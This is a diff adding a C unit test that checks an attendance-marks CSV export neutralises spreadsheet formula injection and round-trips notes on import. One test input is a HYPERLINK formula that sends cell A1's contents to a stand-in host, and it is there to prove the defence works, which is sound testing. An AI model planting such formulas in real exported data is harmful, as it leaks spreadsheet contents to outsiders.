@@ -15,6 +15,7 @@
 #include <string.h>
 #include <unistd.h>
 
+#include "csv.h"
 #include "date.h"
 #include "marks.h"
 #include "rules.h"
@@ -831,6 +832,75 @@ static void test_export_round_trip(void **state)
     assert_int_equal(after[1].day, WED);
 }
 
+/* Formula injection: a note a spreadsheet would run as a formula is written
+ * behind a single quote, quoted; the import reads back the note itself. At
+ * each boundary: every leading character that starts a formula, one a space
+ * away, a safe note, an empty one, and notes that begin with a quote. */
+static void test_export_neutralises_formulas(void **state)
+{
+    struct fixture *f = *state;
+    static const struct {
+        const char *note, *written;
+    } cases[] = {
+        {"=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")", "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Click\"\")\""},
+        {"+44 29 2087 2087", "\"'+44 29 2087 2087\""},
+        {"-2+3", "\"'-2+3\""},
+        {"@SUM(A1:A9)", "\"'@SUM(A1:A9)\""},
+        {" =1+1", " =1+1"},
+        {"called at 9, mum says ill", "\"called at 9, mum says ill\""},
+        {"safe", "safe"},
+        {"", ""},
+        {"'tis the flu", "'tis the flu"},
+        {"'=1+1", "\"''=1+1\""},
+        {"''", "\"'''\""},
+        {"'", "'"},
+    };
+    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
+        struct mark m;
+        struct mark_input in = {.pupil_id = P_FULL, .day = MON, .session = SESSION_AM, .code = 'I',
+                                .source = SOURCE_PHONE, .note = cases[i].note};
+        sql(f->s, "DELETE FROM attendance_mark");
+        assert_int_equal(marks_set(f->s, &in, 0, &m), AP_OK);
+        char *text = NULL;
+        size_t len = 0;
+        FILE *out = open_memstream(&text, &len);
+        assert_non_null(out);
+        int count = -1;
+        assert_int_equal(marks_export_csv(f->s, MON, MON, out, &count), AP_OK);
+        assert_int_equal(fclose(out), 0);
+        assert_int_equal(count, 1);
+        char expect[256];
+        snprintf(expect, sizeof expect, ",phone,%s,tester,", cases[i].written);
+        if (!strstr(text, expect))
+            fail_msg("note \"%s\": expected %s in\n%s", cases[i].note, expect, text);
+        sql(f->s, "DELETE FROM attendance_mark");
+        assert_int_equal(marks_import_csv(f->s, "export.csv", text, false, &count), AP_OK);
+        assert_int_equal(marks_get(f->s, P_FULL, MON, SESSION_AM, &m), AP_OK);
+        assert_string_equal(m.note, cases[i].note);
+        free(text);
+    }
+
+    /* Tab and carriage return, which no note may hold, in any other field. */
+    static const char *const controls[] = {"\tx", "\r=1", "'\t"};
+    for (size_t i = 0; i < sizeof controls / sizeof controls[0]; i++) {
+        char *text = NULL;
+        size_t len = 0;
+        FILE *out = open_memstream(&text, &len);
+        assert_non_null(out);
+        assert_true(csv_write_field(out, controls[i], true));
+        assert_int_equal(fclose(out), 0);
+        assert_true(text[0] == '"' && text[1] == '\'');
+        struct csv_reader r;
+        bool got;
+        csv_open(&r, "t.csv", text);
+        assert_int_equal(csv_next(&r, &got), AP_OK);
+        assert_true(got);
+        assert_string_equal(csv_unprotect(r.field[0]), controls[i]);
+        csv_close(&r);
+        free(text);
+    }
+}
+
 static void test_names(void **state)
 {
     (void)state;
@@ -862,6 +932,7 @@ int main(void)
         cmocka_unit_test_setup_teardown(test_calls_log_code_replaces_n, setup, teardown),
         cmocka_unit_test_setup_teardown(test_import_all_or_nothing, setup, teardown),
         cmocka_unit_test_setup_teardown(test_export_round_trip, setup, teardown),
+        cmocka_unit_test_setup_teardown(test_export_neutralises_formulas, setup, teardown),
     };
     return cmocka_run_group_tests_name("marks", tests, NULL, NULL);
 }
